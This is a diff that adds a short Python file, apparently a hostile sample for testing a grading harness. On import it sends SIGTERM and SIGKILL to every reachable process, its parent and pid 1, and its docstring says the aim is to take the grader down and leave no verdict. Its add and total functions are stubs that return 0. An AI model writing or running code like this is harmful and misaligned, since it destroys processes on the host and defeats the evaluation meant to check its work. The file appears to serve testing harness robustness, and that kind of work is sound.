@@ -1,0 +1,19 @@
+"""Hostile: signal every process it can reach (kill -1), its parent and pid 1, hoping to
+take the grader down with it and leave no verdict."""
+import os
+import signal
+
+for target in (-1, os.getppid(), 1):
+    for sig in (signal.SIGTERM, signal.SIGKILL):
+        try:
+            os.kill(target, sig)
+        except OSError:
+            pass
+
+
+def add(a, b):
+    return 0
+
+
+def total(path="data/numbers.csv"):
+    return 0
